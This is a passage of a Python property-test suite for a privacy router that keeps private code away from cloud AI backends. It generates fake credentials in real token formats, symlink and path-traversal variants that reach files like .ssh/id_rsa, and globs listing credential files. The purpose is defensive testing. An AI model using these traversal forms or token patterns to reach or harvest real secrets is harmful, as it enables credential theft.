"""Privacy under attack: property tests that try hard to make private code reach a cloud.

Hypothesis generates privacy globs (built-in and random), paths as a server receives them
(relative, absolute, ``..``, symlinks in and out of the workspace, case variants,
percent-encoded ``file:`` URIs, ``untitled:`` and notebook-cell URIs, Windows separators,
drive letters and UNC shares), contents with and without credentials, route orders over
local, private-network, cloud and unknown backends, and what each backend does (answers,
refuses the connection, times out, fails mid-stream, rejects the request, is busy, is known
to be down). In-memory fake backends record every chat request the pipeline hands them.

Properties:

* a document that is private (by a glob, or by a credential in the text sent) never
  reaches a backend whose real locality is ``cloud`` — not one request, whatever the
  route, the fallbacks and the failures;
* every refusal names its reason (the glob, or the kind of secret and its line) and never
  contains the secret;
* the classification agrees with hand-labelled ground truth on a real directory tree, and
  glob matching agrees with an independent reference matcher;
* hostile workspace configuration (``.localroute.toml``, ``localroute.toml``,
  workspace-level editor settings) cannot define or relabel a backend, drop a glob, turn
  secret detection off or widen a route.

Runs are derandomized (fixed seed), deadline-free and sized to run in well under a minute;
``LOCALROUTE_PROPERTY_SCALE=10`` runs ten times as many cases. Credentials are assembled at
run time so this file holds none.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import random
import re
import string
import time
import tomllib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st

import localroute.pipeline as pipeline_module
from localroute.backends.base import (
    BackendRequestError,
    BackendUnavailable,
    ChatRequest,
    ChatResult,
    ProbeResult,
    TextCallback,
)
from localroute.config import sources
from localroute.config.locality import effective_locality
from localroute.config.models import (
    BUILTIN_PRIVACY_GLOBS,
    BackendConfig,
    Config,
    Locality,
    PrivacyConfig,
    TaskConfig,
    backend_config,
)
from localroute.pipeline import (
    Pipeline,
    RequestFailed,
    RequestRefused,
    TaskError,
    TaskOutcome,
    TaskRequest,
)
from localroute.privacy import (
    PrivacyVerdict,
    classify,
    glob_to_regex,
    match_privacy_glob,
    path_from_uri,
)
from localroute.routing.router import decide

# --- run size, seed and the case counter ------------------------------------------------

SCALE = float(os.environ.get("LOCALROUTE_PROPERTY_SCALE", "1"))


def examples(n: int) -> int:
    return max(1, round(n * SCALE))


PROFILE = settings(
    derandomize=True,  # a fixed seed: the same cases on every run and every machine
    database=None,
    deadline=None,
    print_blob=False,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
    ],
)

# Examples actually run per property (hypothesis may stop early on a small space).
CASES: Counter[str] = Counter()
FIGURES: Counter[str] = Counter()  # what the cases covered
PLANNED = {
    "path forms on a real tree": 3000,
    "random globs vs reference matcher": 2000,
    "random globs, instantiated paths": 1200,
    "credentials in content": 1500,
    "pipeline: no private byte reaches a cloud": 3000,
    "trust rule: hostile workspace config": 800,
}

# --- credentials, assembled at run time ------------------------------------------------

ALNUM = string.ascii_letters + string.digits
UPPER_DIGITS = string.ascii_uppercase + string.digits
B64 = string.ascii_letters + string.digits + "+/"
URLSAFE = string.ascii_letters + string.digits + "_-"


def _pick(rng: random.Random, alphabet: str, n: int) -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def _mixed(rng: random.Random, n: int) -> str:
    """A password-like value: every character class, no placeholder words."""
    core = [
        rng.choice(string.ascii_lowercase),
        rng.choice(string.ascii_uppercase),
        rng.choice(string.digits),
        rng.choice("!#%&*+-=@^~<>{}$"),
    ]
    core += [rng.choice(ALNUM + "!#%&*+-=@^~<>{}$") for _ in range(n - 4)]
    rng.shuffle(core)
    return "".join(core)


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


@dataclass(frozen=True)
class Credential:
    kind: str
    lines: tuple[str, ...]  # the lines inserted; the first holds what is detected
    secret: str  # the part that must never be shown


def _jwt(rng: random.Random) -> str:
    head = _b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    body = _b64url(json.dumps({"sub": _pick(rng, string.digits, 8), "n": rng.random()}).encode())
    return f"{head}.{body}.{_pick(rng, URLSAFE, 43)}"


def make_credential(kind_index: int, seed: int) -> Credential:
    rng = random.Random(seed)
    kinds = CREDENTIAL_MAKERS
    kind, make = kinds[kind_index % len(kinds)]
    secret, lines = make(rng)
    return Credential(kind, tuple(lines), secret)


def _private_key(rng: random.Random) -> tuple[str, list[str]]:
    label = rng.choice(["RSA ", "EC ", "OPENSSH ", "", "DSA ", "ENCRYPTED "])
    body = [_pick(rng, B64, 64) for _ in range(rng.randint(1, 3))]
    head = "-----BEGIN " + label + "PRIVATE" + " KEY-----"
    tail = "-----END " + label + "PRIVATE" + " KEY-----"
    return body[0], [rng.choice(["", 'KEY = """', "key: |"]) + head, *body, tail]


def _aws_id(rng: random.Random) -> tuple[str, list[str]]:
    value = rng.choice(["AK", "AS"]) + "IA" + _pick(rng, UPPER_DIGITS, 16)
    template = rng.choice(
        ["aws_access_key_id = {v}", '"AccessKeyId": "{v}",', "key = '{v}'", "    id: {v}"]
    )
    return value, [template.format(v=value)]


def _aws_secret(rng: random.Random) -> tuple[str, list[str]]:
    value = _pick(rng, B64, 40)
    template = rng.choice(
        [
            "aws_secret_access_key = {v}",
            'AWS_SECRET_ACCESS_KEY: "{v}"',
            "export AWS_SECRET_ACCESS_KEY={v}",
        ]
    )
    return value, [template.format(v=value)]


def _github(rng: random.Random) -> tuple[str, list[str]]:
    if rng.random() < 0.3:
        value = "github" + "_pat_" + _pick(rng, ALNUM, 22) + "_" + _pick(rng, ALNUM, 59)
    else:
        value = "gh" + rng.choice("pousr") + "_" + _pick(rng, ALNUM, 36)
    return value, [_context(rng, value, "GITHUB_TOKEN")]


def _gitlab(rng: random.Random) -> tuple[str, list[str]]:
    value = "gl" + "pat-" + _pick(rng, URLSAFE, 20)
    return value, [_context(rng, value, "gitlab_token")]


def _slack(rng: random.Random) -> tuple[str, list[str]]:
    if rng.random() < 0.5:
        value = (
            "https://hooks.slack.com/services/T"
            + _pick(rng, UPPER_DIGITS, 8)
            + "/B"
            + _pick(rng, UPPER_DIGITS, 8)
            + "/"
            + _pick(rng, ALNUM, 24)
        )
    else:
        digits = string.digits
        value = "xo" + "xb-" + _pick(rng, digits, 11) + "-" + _pick(rng, digits, 12) + "-"
        value += _pick(rng, ALNUM, 24)
    return value, [_context(rng, value, "webhook")]


def _openai(rng: random.Random) -> tuple[str, list[str]]:
    if rng.random() < 0.5:
        value = "sk" + "-proj-" + _pick(rng, URLSAFE, 48)
    else:
        value = "sk" + "-" + _pick(rng, ALNUM, 48)
    return value, [_context(rng, value, "OPENAI_API_KEY")]


def _anthropic(rng: random.Random) -> tuple[str, list[str]]:
    value = "sk" + "-ant-" + "api03-" + _pick(rng, URLSAFE, 80) + "AA"
    return value, [_context(rng, value, "anthropic_key")]


def _google(rng: random.Random) -> tuple[str, list[str]]:
    value = "AI" + "za" + _pick(rng, URLSAFE, 35)
    return value, [_context(rng, value, "maps_key")]


def _jwt_line(rng: random.Random) -> tuple[str, list[str]]:
    value = _jwt(rng)
    return value, [_context(rng, value, "session")]


def _assignment(rng: random.Random) -> tuple[str, list[str]]:
    value = _mixed(rng, rng.randint(12, 24))
    name = rng.choice(["password", "db_password", "apiKey", "client_secret", "auth_token"])
    template = rng.choice(
        [
            '{n} = "{v}"',
            '    "{n}": "{v}",',
            "{n}: '{v}'",
            '{n} := "{v}"',
            'settings["{n}"] = "{v}"',
            "const {n} = `{v}`;",
        ]
    )
    return value, [template.format(n=name, v=value)]


def _env_assignment(rng: random.Random) -> tuple[str, list[str]]:
    value = _pick(rng, ALNUM, rng.randint(16, 32))
    name = rng.choice(["API_TOKEN", "DB_PASSWORD", "STRIPE_SECRET", "SESSION_SECRET"])
    prefix = rng.choice(["", "export ", "ENV "])
    return value, [f"{prefix}{name}={value}"]


def _context(rng: random.Random, value: str, name: str) -> str:
    """A token where code keeps it: an assignment, a header, a URL, a comment, bare."""
    template = rng.choice(
        [
            '{n} = "{v}"',
            "{n}={v}",
            '    headers = {{"Authorization": "Bearer {v}"}}',
            "# old token: {v}",
            "curl -H 'X-Token: {v}' https://api.example.com",
            "{v}",
            '  - "{v}"',
            "url = f'https://x.example.com/?key={v}'",
        ]
    )
    return template.format(n=name, v=value)


CREDENTIAL_MAKERS: tuple[tuple[str, Callable[[random.Random], tuple[str, list[str]]]], ...] = (
    ("private key", _private_key),
    ("AWS access key id", _aws_id),
    ("AWS secret access key", _aws_secret),
    ("GitHub token", _github),
    ("GitLab token", _gitlab),
    ("Slack token", _slack),
    ("OpenAI API key", _openai),
    ("Anthropic API key", _anthropic),
    ("Google API key", _google),
    ("JWT", _jwt_line),
    ("credential assignment", _assignment),
    ("credential assignment", _env_assignment),
)

# Ordinary code, including lines that look a little like credentials but are not.
CLEAN_LINES: tuple[str, ...] = (
    "import os",
    "from dataclasses import dataclass",
    "def handler(event, context):",
    "    return {'statusCode': 200}",
    "class Session:",
    "    token: str | None = None",
    "    user_id = '123e4567-e89b-12d3-a456-426614174000'",
    "commit = 'da39a3ee5e6b4b0d3255bfef95601890afd80709'",
    "password = os.environ['DB_PASSWORD']",
    "api_key = os.getenv('OPENAI_API_KEY')",
    "api_key_env = 'OPENAI_API_KEY'",
    "token = get_token(session, scope='read')",
    "def authenticate(self, password: str) -> bool:",
    "    if not password:",
    "        raise PermissionError('not authenticated')",
    "color: #08547A;",
    "const message = t('auth.password.tooShort');",
    '  "integrity": "sha512-'
    + "Zm9vYmFyYmF6cXV4"
    + "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQ"
    + '==",',
    "requests==2.32.3 --hash=sha256:"
    + "70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6",
    "DEBUG=1",
    "LOG_LEVEL=info",
    "    for line in lines:",
    "        total += len(line)",
    "SELECT id, name FROM users WHERE id = %s;",
    '<input type="password" name="password" autocomplete="current-password">',
    "password_file = '/run/secrets/db_password'",
    "token_url = 'https://github.com/login/oauth/access_token'",
    "tokenizer = AutoTokenizer.from_pretrained('bert-base-uncased')",
    "# TODO: rotate the key every 90 days",
    "if __name__ == '__main__':",
    "    main()",
    "",
)

# --- the workspace tree: hand-labelled ground truth -----------------------------------


@dataclass(frozen=True)
class Entry:
    """A document in the tree, relative to the tree's base, and whether it is private.

    ``mode``: ``public``; ``lexical`` (private by the name it is opened under);
    ``resolved`` (private only once symlinks are followed). ``globs``: the globs that
    may be named as the reason. ``ws_relative`` globs only match inside a workspace.
    """

    rel: str
    mode: str = "public"
    globs: tuple[str, ...] = ()
    ws_relative: bool = False

    @property
    def private(self) -> bool:
        return self.mode != "public"


USER_GLOBS = ("internal/**",)
SECRETS = ("**/secrets/**",)

FILES = (
    "ws/src/app.py",
    "ws/src/util/helpers.py",
    "ws/README.md",
    "ws/docs/guide.md",
    "ws/config/settings.py",
    "ws/.envrc",
    "ws/env.py",
    "ws/secret.py",
    "ws/secrets.py",
    "ws/my_secrets/notes.md",
    "ws/keys/keys.py",
    "ws/keys/api.key",
    "ws/pem.txt",
    "ws/internal_docs/a.md",
    "ws/src/internal/x.py",
    "ws/.env",
    "ws/.env.local",
    "ws/config/.env.production",
    "ws/.ENV",
    "ws/deploy/server.pem",
    "ws/deploy/KEY.PEM",
    "ws/secrets/db.py",
    "ws/secrets/nested/deep.yaml",
    "ws/secrets/analysis.ipynb",
    "ws/SECRETS/upper.txt",
    "ws/src/credentials.json",
    "ws/id_rsa",
    "ws/id_ed25519.pub",
    "ws/.aws/credentials",
    "ws/.ssh/config",
    "ws/certs/client.p12",
    "ws/.npmrc",
    "ws/infra/terraform.tfstate",
    "ws/infra/terraform.tfstate.backup",
    "ws/internal/plan.md",
    "ws/notebooks/analysis.ipynb",
    "ws/dir with space/a b.py",
    "ws/dir with space/.env",
    "ws/ünïcode/ѕecrets/x.py",  # Cyrillic "ѕ": a different name, not a secrets dir
    "ws/%2e%2e/lit.py",  # a literal directory name, not ".."
    "ws2/README.md",
    "outside/secrets/token.txt",
    "outside/secrets/deeper/note.txt",
    "outside/public/a.py",
    "outside/internal/x.md",
    "home/.ssh/id_rsa",
    "home/.aws/config",
)

# link (relative to base) → target (relative to the link's directory)
LINKS = {
    "ws/link_to_secrets": "secrets",
    "ws/innocent.py": "secrets/db.py",
    "ws/public_link.py": "src/app.py",
    "ws/secrets/alias.py": "../src/app.py",
    "ws/outside_secret": "../outside/secrets",
    "ws/outside_public": "../outside/public",
    "ws/deep_link": "../outside/secrets/deeper",
    "ws/escape_key.txt": "../home/.ssh/id_rsa",
    "ws/dangling.py": "../nowhere/secrets/x.py",
    "ws/loop.py": "loop.py",
    "ws/src/up": "..",
    "ws/internal_link": "internal",
    "ws_link": "ws",
}

_ENV = ("**/.env",)
_ENV_STAR = ("**/.env.*",)
ENTRIES: tuple[Entry, ...] = (
    Entry("ws/src/app.py"),
    Entry("ws/src/util/helpers.py"),
    Entry("ws/README.md"),
    Entry("ws/docs/guide.md"),
    Entry("ws/config/settings.py"),
    Entry("ws/.envrc"),
    Entry("ws/env.py"),
    Entry("ws/secret.py"),
    Entry("ws/secrets.py"),
    Entry("ws/my_secrets/notes.md"),
    Entry("ws/keys/keys.py"),
    Entry("ws/pem.txt"),
    Entry("ws/internal_docs/a.md"),
    Entry("ws/src/internal/x.py"),
    Entry("ws/notebooks/analysis.ipynb"),
    Entry("ws/dir with space/a b.py"),
    Entry("ws/ünïcode/ѕecrets/x.py"),
    Entry("ws/%2e%2e/lit.py"),
    Entry("ws/public_link.py"),
    Entry("ws/outside_public/a.py"),
    Entry("ws/loop.py"),
    Entry("ws/src/up/src/app.py"),
    Entry("ws2/README.md"),
    Entry("outside/public/a.py"),
    Entry("outside/internal/x.md"),  # internal/** is relative to a workspace root
    Entry("ws/keys/api.key", "lexical", ("**/*.key",)),
    Entry("ws/.env", "lexical", _ENV),
    Entry("ws/.env.local", "lexical", _ENV_STAR),
    Entry("ws/config/.env.production", "lexical", _ENV_STAR),
    Entry("ws/.ENV", "lexical", _ENV),
    Entry("ws/dir with space/.env", "lexical", _ENV),
    Entry("ws/deploy/server.pem", "lexical", ("**/*.pem",)),
    Entry("ws/deploy/KEY.PEM", "lexical", ("**/*.pem",)),
    Entry("ws/secrets/db.py", "lexical", SECRETS),
    Entry("ws/secrets/nested/deep.yaml", "lexical", SECRETS),
    Entry("ws/secrets/analysis.ipynb", "lexical", SECRETS),
    Entry("ws/secrets/alias.py", "lexical", SECRETS),
    Entry("ws/SECRETS/upper.txt", "lexical", SECRETS),
    Entry("ws/src/up/secrets/db.py", "lexical", SECRETS),
    Entry("ws/src/credentials.json", "lexical", ("**/credentials*",)),
    Entry("ws/id_rsa", "lexical", ("**/id_rsa*",)),
    Entry("ws/id_ed25519.pub", "lexical", ("**/id_ed25519*",)),
    Entry("ws/.aws/credentials", "lexical", ("**/.aws/**", "**/credentials*")),
    Entry("ws/.ssh/config", "lexical", ("**/.ssh/**",)),
    Entry("ws/certs/client.p12", "lexical", ("**/*.p12",)),
    Entry("ws/.npmrc", "lexical", ("**/.npmrc",)),
    Entry("ws/infra/terraform.tfstate", "lexical", ("**/*.tfstate",)),
    Entry("ws/infra/terraform.tfstate.backup", "lexical", ("**/*.tfstate.*",)),
    Entry("ws/internal/plan.md", "lexical", USER_GLOBS, ws_relative=True),
    Entry("outside/secrets/token.txt", "lexical", SECRETS),
    Entry("home/.ssh/id_rsa", "lexical", ("**/id_rsa*", "**/.ssh/**")),
    Entry("home/.aws/config", "lexical", ("**/.aws/**",)),
    Entry("ws/link_to_secrets/db.py", "resolved", SECRETS),
    Entry("ws/link_to_secrets/nested/deep.yaml", "resolved", SECRETS),
    Entry("ws/innocent.py", "resolved", SECRETS),
    Entry("ws/outside_secret/token.txt", "resolved", SECRETS),
    Entry("ws/deep_link/../token.txt", "resolved", SECRETS),  # the kernel's "..", not normpath's
    Entry("ws/escape_key.txt", "resolved", ("**/id_rsa*", "**/.ssh/**")),
    Entry("ws/dangling.py", "resolved", SECRETS),
    Entry("ws/internal_link/plan.md", "resolved", USER_GLOBS, ws_relative=True),
)


@dataclass(frozen=True)
class Tree:
    base: str  # absolute, no trailing slash

    def abs(self, rel: str) -> str:
        return f"{self.base}/{rel}"


@pytest.fixture(scope="session")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Tree:
    """The workspace tree, made once: files, directories and symlinks in and out of ws/."""
    base = tmp_path_factory.mktemp("privacy-tree")
    for rel in FILES:
        path = base / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("print('hello')\n")
    for rel, target in LINKS.items():
        link = base / rel
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)
    tree = Tree(str(base))
    # The tree itself must not sit under a private-looking directory.
    assert match_privacy_glob(tree.abs("ws/src/app.py"), [], BUILTIN_PRIVACY_GLOBS) is None
    return tree


# --- path forms ----------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """A document as the server receives it."""

    uri: str
    path: str | None  # what the server would classify (path_from_uri for URIs)
    roots: tuple[str, ...]
    form: str
    resolvable: bool  # symlinks can be followed from this form on this machine

    def expected(self, entry: Entry) -> bool | None:
        """Ground truth for the path, or None when this form cannot know it."""
        if self.path is None:
            return False  # untitled: classified by text only
        if entry.mode == "resolved" and not self.resolvable:
            return None
        return entry.private


DETOURS = ("src/../", "./", "zzz/../", "src/util/../../", "docs/./../")
FORMS = (
    "absolute",
    "via root symlink",
    "detour",
    "double slashes",
    "trailing slash",
    "relative",
    "relative detour",
    "backslashes",
    "case variant",
    "file uri",
    "file uri, extra encoding",
    "file uri, localhost",
    "notebook cell",
    "windows drive",
    "windows drive uri",
    "unc share",
    "untitled",
)


def _flip_case(rng: random.Random, text: str) -> str:
    return "".join(c.swapcase() if rng.random() < 0.5 else c for c in text)


def _encode(rng: random.Random, path: str) -> str:
    """Percent-encode a path as an editor would, then some more (hex case varies)."""
    out = []
    for ch in path:
        if (ch in "/" and rng.random() < 0.9) or (
            ch.isascii() and ch.isalnum() and rng.random() < 0.7
        ):
            out.append(ch)
        else:
            encoded = quote(ch, safe="")
            if encoded == ch:
                encoded = "".join(f"%{b:02X}" for b in ch.encode())
            out.append(encoded.lower() if rng.random() < 0.5 else encoded)
    return "".join(out)


def make_target(tree: Tree, entry: Entry, form: str, seed: int, extra_root: bool) -> Target:
    rng = random.Random(seed)
    base = tree.base
    in_ws = entry.rel.startswith("ws/")
    ws_rel = entry.rel[3:] if in_ws else "../" + entry.rel
    roots = [rng.choice([f"{base}/ws", f"{base}/ws/", f"{base}//ws", f"{base}/ws_link"])]
    if extra_root:
        roots.append(f"{base}/ws2")
    roots_t = tuple(roots)
    absolute = f"{base}/{entry.rel}"

    def plain(path: str, form_: str = form, resolvable: bool = True) -> Target:
        return Target("file://" + quote(path), path, roots_t, form_, resolvable)

    if form == "absolute":
        return plain(absolute)
    if form == "via root symlink":
        return plain(f"{base}/ws_link/{ws_rel}")
    if form == "detour":
        return plain(f"{base}/ws/{rng.choice(DETOURS)}{ws_rel}")
    if form == "double slashes":
        return plain(absolute.replace("/", "//", rng.randint(1, 4)).replace("/ws/", "/ws///"))
    if form == "trailing slash":
        return plain(absolute + "/")
    if form == "relative":
        return Target("file:" + quote(ws_rel), ws_rel, roots_t, form, True)
    if form == "relative detour":
        rel = rng.choice(DETOURS) + ws_rel
        return Target("file:" + quote(rel), rel, roots_t, form, True)
    if form == "backslashes":
        return plain(absolute.replace("/", "\\"))
    if form == "case variant":
        # Only the part below the workspace varies; on this case-sensitive file
        # system a varied name cannot be resolved (on macOS it would be).
        varied = f"{base}/ws/{_flip_case(rng, ws_rel)}" if in_ws else absolute
        return plain(varied, resolvable=varied == absolute)
    if form.startswith("file uri"):
        if form == "file uri, extra encoding":
            uri = rng.choice(["file://", "FILE://", "File://"]) + _encode(rng, absolute)
        elif form == "file uri, localhost":
            uri = rng.choice(["file://localhost", "file://LOCALHOST"]) + quote(absolute)
        else:
            uri = rng.choice(["file://", "file:"]) + quote(absolute)
        return Target(uri, path_from_uri(uri), roots_t, form, True)
    if form == "notebook cell":
        uri = rng.choice(["vscode-notebook-cell:", "vscode-notebook-cell://"])
        uri += quote(absolute) + "#W" + _pick(rng, ALNUM, 6) + "sZmlsZQ%3D%3D"
        return Target(uri, path_from_uri(uri), roots_t, form, True)
    if form.startswith("windows drive"):
        drive = rng.choice(["C:", "c:", "D:"])
        win_base = drive + "\\Users\\dev\\work"
        root = rng.choice([win_base + "\\ws", win_base.replace("\\", "/") + "/ws"])
        if rng.random() < 0.3:
            root = root.lower()
        windows = win_base + "\\" + entry.rel.replace("/", "\\")
        if form == "windows drive uri":
            posix = windows.replace("\\", "/")
            uri = "file:///" + rng.choice([posix, posix.replace(":", "%3A", 1)])
            return Target(quote(uri, safe=":/%"), path_from_uri(uri), (root,), form, False)
        return Target("file:///" + quote(windows), windows, (root,), form, False)
    if form == "unc share":
        unc = "\\\\server\\share\\" + entry.rel.replace("/", "\\")
        if rng.random() < 0.5:
            uri = "file://server/share/" + quote(entry.rel)
            return Target(uri, path_from_uri(uri), ("\\\\server\\share\\ws",), form, False)
        return Target("file:" + quote(unc), unc, ("//server/share/ws",), form, False)
    if form == "untitled":
        uri = rng.choice(["untitled:Untitled-1", "untitled:" + quote(absolute)])
        return Target(uri, path_from_uri(uri), roots_t, form, True)
    raise AssertionError(form)


SEEDS = st.integers(0, 2**32 - 1)
ENTRY_ST = st.sampled_from(ENTRIES)
FORM_ST = st.sampled_from(FORMS)


@st.composite
def tree_targets(draw: st.DrawFn, tree: Tree) -> tuple[Entry, Target]:
    entry = draw(ENTRY_ST)
    form = draw(FORM_ST)
    seed = draw(SEEDS)
    extra_root = draw(st.booleans())
    return entry, make_target(tree, entry, form, seed, extra_root)


def all_globs(*extra: str) -> list[str]:
    return [*BUILTIN_PRIVACY_GLOBS, *USER_GLOBS, *extra]


def glob_named(reason: str) -> str | None:
    m = re.fullmatch(r"path matches privacy glob '(.*)'", reason, re.DOTALL)
    return m.group(1) if m else None


@settings(PROFILE, max_examples=examples(PLANNED["path forms on a real tree"]))
@given(data=st.data())
def test_path_forms_on_a_real_tree_match_the_ground_truth(tree: Tree, data: st.DataObject) -> None:
    entry, target = data.draw(tree_targets(tree))
    CASES["path forms on a real tree"] += 1
    FIGURES[f"form: {target.form}"] += 1
    verdict = classify(
        path=target.path,
        workspace_roots=target.roots,
        text="print('hello')\n",
        globs=all_globs(),
        detect_secrets=True,
    )
    expected = target.expected(entry)
    context = f"{entry.rel} as {target.form}: uri={target.uri!r} path={target.path!r}"
    if expected is None:
        return
    assert verdict.private == expected, f"{context}: {verdict.summary}"
    if expected:
        named = glob_named(verdict.reasons[0])
        assert named in entry.globs, f"{context}: named {named!r}, expected one of {entry.globs}"


# --- random globs ------------------------------------------------------------------------

SEG_CHARS = "abAB_-."
GLOB_PIECES = (
    ("a", "b", "A", "_", "-", ".", "ab", "ba"),
    ("*", "*", "**", "?"),
    ("[ab]", "[!a]", "[a-b]", "[^b]", "[]a]", "[-a]", "[A]"),
)


def random_glob_segment(rng: random.Random) -> str:
    """One segment of a glob: literals, ``*`` runs, ``?`` and character classes."""
    segment = "".join(rng.choice(rng.choice(GLOB_PIECES)) for _ in range(rng.randint(1, 5)))
    return segment if segment.strip(".") else segment + "a"


def random_glob(rng: random.Random) -> str:
    segments = [
        "**" if rng.random() < 0.3 else random_glob_segment(rng) for _ in range(rng.randint(1, 5))
    ]
    glob = "/".join(segments)
    if rng.random() < 0.5:
        glob = "/" + glob
    if rng.random() < 0.2:
        glob += "/"
    if rng.random() < 0.15:
        glob = glob.replace("/", "\\")
    return glob


def random_path(rng: random.Random) -> str:
    segments = []
    for _ in range(rng.randint(1, 6)):
        segment = _pick(rng, SEG_CHARS, rng.randint(1, 4))
        segments.append(segment + "a" if segment in (".", "..") else segment)
    path = "/".join(segments)
    return "/" + path if rng.random() < 0.5 else path


# The reference matcher: whole path segments, a memoized search, no regular expressions.


def _ref_class(pattern: str, i: int) -> tuple[Callable[[str], bool] | None, int]:
    """Parse a ``[...]`` class at ``pattern[i]``; (None, i + 1) when it does not close."""
    j = i + 1
    negate = j < len(pattern) and pattern[j] in "!^"
    if negate:
        j += 1
    start = j
    if j < len(pattern) and pattern[j] == "]":
        j += 1
    close = pattern.find("]", j)
    if close < 0:
        return None, i + 1
    body = pattern[start:close]
    items: list[tuple[str, str]] = []
    k = 0
    while k < len(body):
        if k + 2 < len(body) and body[k + 1] == "-":
            items.append((body[k], body[k + 2]))
            k += 3
        else:
            items.append((body[k], body[k]))
            k += 1

    def member(ch: str) -> bool:
        hit = any(lo <= c <= hi for lo, hi in items for c in {ch, ch.lower(), ch.upper()})
        return ch != "/" and hit != negate

    return member, close + 1


def _ref_segment(pattern: str, name: str) -> bool:
    @cache
    def go(p: int, n: int) -> bool:
        if p == len(pattern):
            return n == len(name)
        ch = pattern[p]
        if ch == "*":
            q = p
            while q < len(pattern) and pattern[q] == "*":
                q += 1
            return any(go(q, k) for k in range(n, len(name) + 1))
        if n == len(name):
            return False
        if ch == "?":
            return go(p + 1, n + 1)
        if ch == "[":
            member, after = _ref_class(pattern, p)
            if member is None:
                return name[n] == "[" and go(p + 1, n + 1)
            return member(name[n]) and go(after, n + 1)
        return ch.lower() == name[n].lower() and go(p + 1, n + 1)

    return go(0, 0)


def reference_match(glob: str, path: str) -> bool:
    """gitignore-style glob semantics, as documented in ``glob_to_regex``, segment by segment."""
    g = re.sub(r"/{2,}", "/", glob.strip().replace("\\", "/"))
    anchored = g.startswith("/")
    g = g.lstrip("/")
    floating = not anchored and "/" not in g.rstrip("/")
    if g.endswith("/"):
        g += "**"
    gsegs = g.split("/") if g else []
    gsegs = [s if not (len(s) >= 2 and set(s) == {"*"}) else "**" for s in gsegs]
    if floating:
        gsegs = ["**", *gsegs]
    collapsed: list[str] = []
    for s in gsegs:
        if not (s == "**" and collapsed and collapsed[-1] == "**"):
            collapsed.append(s)
    gsegs = collapsed

    def matches(p: str) -> bool:
        psegs = p.split("/")

        @cache
        def go(gi: int, pi: int) -> bool:
            if gi == len(gsegs):
                return pi == len(psegs)
            if gsegs[gi] == "**":
                if len(gsegs) == 1:
                    return True
                if gi == len(gsegs) - 1:
                    return pi < len(psegs) and "/".join(psegs[pi:]) != ""
                return any(go(gi + 1, k) for k in range(pi, len(psegs) + 1))
            return pi < len(psegs) and _ref_segment(gsegs[gi], psegs[pi]) and go(gi + 1, pi + 1)

        return go(0, 0)

    if not gsegs:
        return path in ("", "/") if anchored else path == ""
    candidates = [path]
    if anchored and path.startswith("/"):
        candidates.append(path[1:])
    return any(matches(p) for p in candidates)


@settings(PROFILE, max_examples=examples(PLANNED["random globs vs reference matcher"]))
@given(seed=SEEDS)
def test_random_globs_agree_with_the_reference_matcher(seed: int) -> None:
    CASES["random globs vs reference matcher"] += 1
    rng = random.Random(seed)
    glob = random_glob(rng)
    pattern = glob_to_regex(glob)
    paths = [random_path(rng) for _ in range(6)] + [instantiate(glob, rng) for _ in range(2)]
    for path in paths:
        began = time.perf_counter()
        ours = pattern.match(path) is not None
        FIGURES["glob matches timed"] += 1
        assert time.perf_counter() - began < 0.25, f"slow match: {glob!r} on {path!r}"
        expected = reference_match(glob, path)
        FIGURES["reference matches" if expected else "reference non-matches"] += 1
        assert ours == expected, f"{glob!r} on {path!r}: ours {ours}, reference {expected}"


def instantiate(glob: str, rng: random.Random) -> str:
    """A path the glob matches, built from the glob (relative to the workspace root)."""
    g = re.sub(r"/{2,}", "/", glob.strip().replace("\\", "/")).lstrip("/")
    floating = not glob.strip().replace("\\", "/").startswith("/") and "/" not in g.rstrip("/")
    if g.endswith("/"):
        g += "**"
    out: list[str] = []
    if floating:
        out += [_pick(rng, "xyz", rng.randint(1, 3)) for _ in range(rng.randint(0, 2))]
    segments = g.split("/")
    for index, seg in enumerate(segments):
        if len(seg) >= 2 and set(seg) == {"*"}:
            count = rng.randint(1, 2) if index == len(segments) - 1 else rng.randint(0, 2)
            out += [_pick(rng, "xyz", rng.randint(1, 3)) for _ in range(count)]
            continue
        out.append(_instantiate_segment(seg, rng))
    return "/".join(out)


def _instantiate_segment(seg: str, rng: random.Random) -> str:
    out: list[str] = []
    i = 0
    while i < len(seg):
        ch = seg[i]
        if ch == "*":
            while i < len(seg) and seg[i] == "*":
                i += 1
            out.append(_pick(rng, "xyz", rng.randint(0, 2)))
            continue
        if ch == "?":
            out.append(rng.choice("xyz"))
        elif ch == "[":
            member, after = _ref_class(seg, i)
            if member is not None:
                choices = [c for c in "abxyzAB_-.]" if member(c)]
                out.append(rng.choice(choices or ["?"]))
                i = after
                continue
            out.append("[")
        else:
            out.append(ch.swapcase() if rng.random() < 0.3 else ch)
        i += 1
    text = "".join(out)
    # An empty or dot-only name would be collapsed by normalization: not a real segment.
    return text if text.strip(".") else text + "x"


@settings(PROFILE, max_examples=examples(PLANNED["random globs, instantiated paths"]))
@given(seed=SEEDS, form=st.sampled_from(FORMS[:12]))
def test_a_path_made_from_a_random_glob_is_private_in_every_form(seed: int, form: str) -> None:
    rng = random.Random(seed)
    glob = random_glob(rng)
    rel = instantiate(glob, rng)
    if not reference_match(glob, rel) or "[" in rel or "?" in rel:
        return  # unsatisfiable glob (e.g. a class that excludes every letter we use)
    CASES["random globs, instantiated paths"] += 1
    FIGURES["instantiated paths checked"] += 1
    root = "/r/ws"
    absolute = f"{root}/{rel}"
    path: str | None
    if form in ("relative", "relative detour"):
        path = rel if form == "relative" else "zzz/../" + rel
    elif form == "backslashes":
        path = absolute.replace("/", "\\")
    elif form == "detour":
        path = f"{root}/q/../{rel}"
    elif form == "double slashes":
